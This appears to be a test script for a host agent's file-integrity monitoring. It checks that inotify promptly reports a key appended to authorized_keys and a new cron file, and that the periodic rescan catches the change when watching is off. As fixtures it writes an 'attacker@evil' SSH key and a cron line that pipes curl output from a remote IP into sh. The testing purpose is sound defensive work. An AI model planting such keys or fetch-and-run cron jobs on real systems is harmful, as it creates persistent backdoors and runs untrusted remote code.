#!/bin/sh
# fim.sh MAMORI - the agent daemon's FIM with inotify: with a cycle
# interval of an hour, a key appended to a watched authorized_keys and a
# file dropped in a watched cron folder under a test root are reported
# within a bounded wait (the inotify watch wakes the daemon; the store is
# polled, at most 15 s each, no other timing); with --no-fim-watch the same
# change is not reported before the next cycle (the periodic rescan alone).
# Every daemon started is killed on exit.
# Ends "fim: N passed, N failed, N skipped".
HERE=$(cd "$(dirname "$0")" && pwd)
. "$HERE/lib/suite.sh"
SUITE=fim
. "$HERE/lib/hostsuite.sh"

[ -d /proc/sys/fs/inotify ] || host_skip_all "no inotify on this kernel"

# root R: a user git with a home and a key; a uid 0 duplicate so the first
# cycle leaves a finding (the sign that the baseline is recorded)
mkroot() {
	mkdir -p "$1/etc/cron.d" "$1/home/git/.ssh" "$1/var/spool/cron"
	printf 'root:x:0:0:root:/root:/bin/bash\ngit:x:998:998::/home/git:/bin/bash\ntoor:x:0:0::/root:/bin/sh\n' >"$1/etc/passwd"
	echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAdm admin@laptop' >"$1/home/git/.ssh/authorized_keys"
	echo '0 3 * * * root /usr/local/bin/backup' >"$1/etc/cron.d/backup"
}
# wait_for DB PATTERN SECS: 0 when a finding of DB matches PATTERN in time
wait_for() {
	i=0
	while [ $i -lt $(($3 * 10)) ]; do
		"$M" findings list --db "$1" --format json 2>/dev/null | grep -q -- "$2" && return 0
		sleep 0.1; i=$((i + 1))
	done
	return 1
}
daemon() { # DB ROOT [options]; its pid in DPID
	db=$1; r=$2; shift 2
	"$M" agent --db "$db" --root "$r" --no-logs --sample-ms 100 --interval 3600 \
		--host web-1 -q "$@" >/dev/null 2>"$db.err" &
	DPID=$!
	PIDS="$PIDS $DPID"
}

# --- inotify: prompt --------------------------------------------------------------
R="$T/r1"; mkroot "$R"
DB="$T/a.db"
daemon "$DB" "$R"; D1=$DPID
wait_for "$DB" '"type":"[A-Za-z]*:Runtime/' 20
expect first_cycle_done "no finding from the first cycle: $(cat "$DB.err")" test $? -eq 0
echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ attacker@evil' >>"$R/home/git/.ssh/authorized_keys"
wait_for "$DB" 'Persistence:Runtime/AuthorizedKeysModified' 15
expect inotify_authorized_keys "not reported within 15 s: $("$M" findings list --db "$DB" --format json | grep -o '"type":"[^"]*"' | sort -u | tr '\n' ' ')" test $? -eq 0
expect inotify_key_named "the finding names the file" sh -c \
	"'$M' findings list --db '$DB' --format json | grep 'AuthorizedKeysModified' | grep -q '/home/git/.ssh/authorized_keys'"
# a new file in a watched folder (any entry), after the first wake-up
echo '* * * * * root curl -s http://203.0.113.9/x | sh' >"$R/etc/cron.d/updater"
wait_for "$DB" '/etc/cron.d/updater' 15
expect inotify_cron_d_new_file "not reported within 15 s" test $? -eq 0
expect daemon_alive "the daemon still runs: $(cat "$DB.err")" kill -0 "$D1"
kill "$D1" 2>/dev/null; wait "$D1"; rc=$?
expect daemon_stops_on_term "exit $rc: $(cat "$DB.err")" test $rc -eq 0

# --- --no-fim-watch: the periodic rescan only ----------------------------------------
R2="$T/r2"; mkroot "$R2"
DB2="$T/b.db"
daemon "$DB2" "$R2" --no-fim-watch; D2=$DPID
wait_for "$DB2" '"type":"[A-Za-z]*:Runtime/' 20
expect first_cycle_done_nowatch "no finding from the first cycle: $(cat "$DB2.err")" test $? -eq 0
echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ attacker@evil' >>"$R2/home/git/.ssh/authorized_keys"
wait_for "$DB2" 'Persistence:Runtime/AuthorizedKeysModified' 4
expect no_watch_waits_for_cycle "reported before the next cycle without inotify" test $? -ne 0
kill "$D2" 2>/dev/null; wait "$D2" 2>/dev/null
# the next cycle (here: a --once run on the same database) reports it
"$M" agent --once --db "$DB2" --root "$R2" --no-logs --sample-ms 100 --host web-1 --format none -q 2>/dev/null
wait_for "$DB2" 'Persistence:Runtime/AuthorizedKeysModified' 1
expect rescan_reports_it "the periodic rescan reports the change" test $? -eq 0

echo "fim: $pass passed, $fail failed, $skip skipped"
[ $fail -eq 0 ]
